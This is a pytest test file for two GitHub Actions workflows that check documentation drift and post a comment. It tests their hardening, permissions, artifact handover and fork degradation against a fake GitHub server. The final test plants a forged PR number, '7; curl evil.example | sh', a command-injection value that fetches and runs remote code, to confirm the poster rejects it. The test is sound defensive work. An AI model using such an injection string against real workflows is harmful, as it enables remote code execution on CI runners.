"""``workflows/docs-drift-check.yml`` and ``docs-drift-post.yml``: valid, quiet under zizmor,
hardened, and their ``run:`` blocks compute on a real PR merge commit, hand over through the
artifact folder, and post (or degrade) against the fake GitHub server."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.fakegithub import TOKEN, FakeGitHub
from tests.fakegithub import fake_github as fake_github  # the fixture
from tests.gitrepo import Repo, make_repo
from tests.workflow_helpers import (
    FORK_POSTER_SUPPRESSION,
    GOVERN_PATH,
    VALIDATORS,
    assert_hardened,
    assert_validator_finds_nothing,
    run_block,
    runner_env,
    zizmor_suppressions,
)

ROOT = Path(__file__).resolve().parent.parent
CHECK = ROOT / "workflows" / "docs-drift-check.yml"
POST = ROOT / "workflows" / "docs-drift-post.yml"
MARKER = "<!-- govern:docs-drift -->"


def load(path: Path) -> dict[Any, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def step(path: Path, name: str) -> dict[str, Any]:
    job = next(iter(load(path)["jobs"].values()))
    return next(s for s in job["steps"] if s.get("name") == name)


@pytest.mark.parametrize("workflow", [CHECK, POST], ids=["check", "post"])
@pytest.mark.parametrize(("tool", "options"), VALIDATORS)
def test_validators_find_nothing(workflow: Path, tool: str, options: tuple[str, ...]) -> None:
    assert_validator_finds_nothing(tool, options, workflow)


def test_the_one_suppression_says_why() -> None:
    assert zizmor_suppressions(CHECK, POST) == [FORK_POSTER_SUPPRESSION]


def test_the_cache_is_restored_before_govern_runs_under_a_run_scoped_key() -> None:
    steps = next(iter(load(CHECK)["jobs"].values()))["steps"]
    uses = [s.get("uses", "").split("@")[0] for s in steps]
    cache = steps[uses.index("actions/cache")]
    # Any earlier run's cache may be restored (entries are keyed by blob id, so a stale one
    # is harmless), and each run saves under its own key, never over another's.
    assert cache["with"] == {"path": ".git/govern", "key": "govern-docs-drift-${{ github.run_id }}",
                             "restore-keys": "govern-docs-drift-"}
    names = [s.get("name") for s in steps]
    assert uses.index("actions/checkout") < uses.index("actions/cache") < names.index(
        "Compute the affected docs")
    assert uses.count("actions/cache") == 1


def test_triggers() -> None:
    assert load(CHECK)[True] == {"pull_request": {"types": ["opened", "synchronize",
                                                            "reopened"]}}
    assert load(POST)[True] == {"workflow_run": {"workflows": ["Docs drift check"],
                                                 "types": ["completed"]}}


def test_hardening() -> None:
    check, post = load(CHECK), load(POST)
    assert_hardened(check)
    assert_hardened(post)
    assert check["jobs"]["compute"]["permissions"] == {"contents": "read"}
    assert post["jobs"]["post"]["permissions"] == {"actions": "read", "contents": "read",
                                                   "pull-requests": "write"}
    compute_checkout = check["jobs"]["compute"]["steps"][0]["with"]
    assert compute_checkout["fetch-depth"] == 0
    # the poster checks out the base branch only: no ref or repository of the PR
    assert set(post["jobs"]["post"]["steps"][0]["with"]) == {"persist-credentials"}
    # PR values reach the shell only through env:
    assert step(CHECK, "Compute the affected docs")["env"] == {
        "GOVERN": GOVERN_PATH, "PR_NUMBER": "${{ github.event.pull_request.number }}"}


# -- the run: blocks, as a runner runs them ------------------------------------------------------

FILES = {
    "pkg/pyproject.toml": '[project]\nname = "acme-audit"\n',
    "pkg/src/acme_audit/__init__.py": "def getAudit(name):\n    return name\n",
    "docs/audit.md": "# Audit\n\nCall `getAudit` with a name.\n",
}


@pytest.fixture
def origin(tmp_path: Path) -> Repo:
    repo = make_repo(tmp_path / "origin", FILES)
    repo.branch("topic")
    repo.commit({"pkg/src/acme_audit/__init__.py": "def getAudit(name):\n    return name * 2\n"},
                "audit: twice")
    repo.checkout("main")
    return repo


def pr_checkout(origin: Repo, tmp_path: Path, shallow: bool = False) -> Repo:
    """What actions/checkout leaves on a pull_request event: the PR's merge commit, detached
    (``shallow``: a depth-1 clone, as without ``fetch-depth: 0``)."""
    work = tmp_path / "work"
    depth = ["--depth", "1", "--no-single-branch"] if shallow else []
    subprocess.run(["git", "clone", "-q", *depth, f"file://{origin.root}", str(work)],
                   check=True)
    repo = Repo(work)
    if shallow:
        repo.git("checkout", "-q", "--detach", "origin/topic")
    else:
        repo.git("checkout", "-q", "--detach", "origin/main")
        repo.git("merge", "-q", "--no-ff", "-m", "Merge topic into main", "origin/topic")
    return repo


def compute(work: Repo, tmp_path: Path, head: str) -> tuple[subprocess.CompletedProcess[str],
                                                           Path]:
    event = tmp_path / "pull_request.json"
    event.write_text(json.dumps({
        "pull_request": {"number": 7, "head": {"sha": head}, "base": {"ref": "main"}},
        "repository": {"full_name": "acme/widgets"}}), encoding="utf-8")
    summary = tmp_path / "check-summary.md"
    env = runner_env({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(event),
                      "GITHUB_BASE_REF": "main", "GITHUB_STEP_SUMMARY": str(summary),
                      "PR_NUMBER": "7"})
    return run_block(step(CHECK, "Compute the affected docs")["run"], work.root, env), summary


def post(origin: Repo, tmp_path: Path, fake: FakeGitHub, drift: Path,
         head: str) -> tuple[subprocess.CompletedProcess[str], Path]:
    """The poster: the base branch checked out, the artifact downloaded to $DRIFT."""
    base = tmp_path / "base"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{origin.root}", str(base)],
                   check=True)
    downloaded = tmp_path / "runner-temp" / "drift"
    shutil.copytree(drift, downloaded)
    event = tmp_path / "workflow_run.json"
    event.write_text(json.dumps({
        "workflow_run": {"id": 99, "event": "pull_request", "head_sha": head,
                         "pull_requests": []},  # as GitHub sends it for a fork PR
        "repository": {"full_name": fake.full_name}}), encoding="utf-8")
    summary = tmp_path / "post-summary.md"
    env = runner_env({"GITHUB_ACTIONS": "true", "GITHUB_EVENT_PATH": str(event),
                      "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_TOKEN": TOKEN,
                      "GITHUB_API_URL": fake.base_url, "GITHUB_REPOSITORY": fake.full_name,
                      "DRIFT": str(downloaded)})
    return run_block(step(POST, "Post the sticky comment")["run"], base, env), summary


def test_a_pr_is_computed_then_posted(origin: Repo, tmp_path: Path,
                                      fake_github: FakeGitHub) -> None:
    head = origin.sha("topic")
    work = pr_checkout(origin, tmp_path)
    merge, base = work.sha("HEAD"), origin.sha("main")
    computed, check_summary = compute(work, tmp_path, head)
    assert computed.returncode == 0, computed.stderr
    assert sorted(p.name for p in (work.root / "drift").iterdir()) == [
        "affected-docs.json", "docs-refs.json", "pr-number"]
    refs = json.loads((work.root / "drift" / "docs-refs.json").read_text(encoding="utf-8"))
    assert (refs["mode"], refs["findings"]) == ("diff", [])  # diff mode, nothing broken here
    assert check_summary.read_text().startswith(MARKER + "\n")

    fake_github.add_pull(7, head)
    posted, _ = post(origin, tmp_path, fake_github, work.root / "drift", head)
    assert posted.returncode == 0, posted.stderr
    [comment] = fake_github.comments[7]
    got = comment["body"].splitlines()
    assert got[:4] == [MARKER, "### 📓 Docs Drift Check", "",
                       "This PR changes **1** package(s): `acme-audit`, touching **2** "
                       "documentable anchor(s)."]
    assert "- `docs/audit.md:3`  _(via getAudit (symbol))_" in got
    assert (f"Computed on `{merge}`, the PR's merge commit: base `{base}` merged with head "
            f"`{head}`; the diff is from merge base `{base}`.") in got
    assert comment["body"] == check_summary.read_text()  # what the check showed is posted


def test_not_judged_is_uploaded_and_posted_naming_the_head(origin: Repo, tmp_path: Path,
                                                           fake_github: FakeGitHub) -> None:
    head = origin.sha("topic")
    work = pr_checkout(origin, tmp_path, shallow=True)
    computed, _ = compute(work, tmp_path, head)
    assert computed.returncode == 0, computed.stderr
    drift = work.root / "drift"
    assert sorted(p.name for p in drift.iterdir()) == ["not-judged.txt", "pr-number"]
    reason = (drift / "not-judged.txt").read_text().strip()
    assert reason == (f"no merge base between {origin.sha('main')} and {head}: this is a "
                      "shallow clone without it")

    fake_github.add_pull(7, head)
    posted, _ = post(origin, tmp_path, fake_github, drift, head)
    assert posted.returncode == 0, posted.stderr
    got = fake_github.comments[7][0]["body"].splitlines()
    assert got[3] == (f"⚠️ **NOT JUDGED** on `{head}`: no merge base between "
                      f"{origin.sha('main')} and {head}: this is a shallow clone without it. "
                      "The list below this line, if any, is from an older head.")


def test_a_fork_prs_read_only_token_degrades_to_the_summary(origin: Repo, tmp_path: Path,
                                                            fake_github: FakeGitHub) -> None:
    head = origin.sha("topic")
    work = pr_checkout(origin, tmp_path)
    assert compute(work, tmp_path, head)[0].returncode == 0
    fake_github.add_pull(7, head)
    fake_github.read_only = True
    posted, summary = post(origin, tmp_path, fake_github, work.root / "drift", head)
    assert posted.returncode == 0, posted.stderr
    assert summary.read_text().startswith(MARKER + "\n")
    assert ("::warning::the docs drift comment was not posted: GitHub refused permission while "
            "commenting on #\u200b7 of acme/widgets: 403 'Resource not accessible by "
            "integration'; it is in this run's step summary") in posted.stdout.splitlines()
    assert fake_github.comments.get(7, []) == []


def test_an_artifact_naming_no_pr_number_is_refused(origin: Repo, tmp_path: Path,
                                                    fake_github: FakeGitHub) -> None:
    drift = tmp_path / "forged"
    drift.mkdir()
    (drift / "pr-number").write_text("7; curl evil.example | sh\n")
    (drift / "not-judged.txt").write_text("x\n")
    posted, _ = post(origin, tmp_path, fake_github, drift, "a" * 40)
    assert posted.returncode == 2
    assert posted.stdout.splitlines() == ["::error::the artifact names no PR number"]
    assert fake_github.requests == []
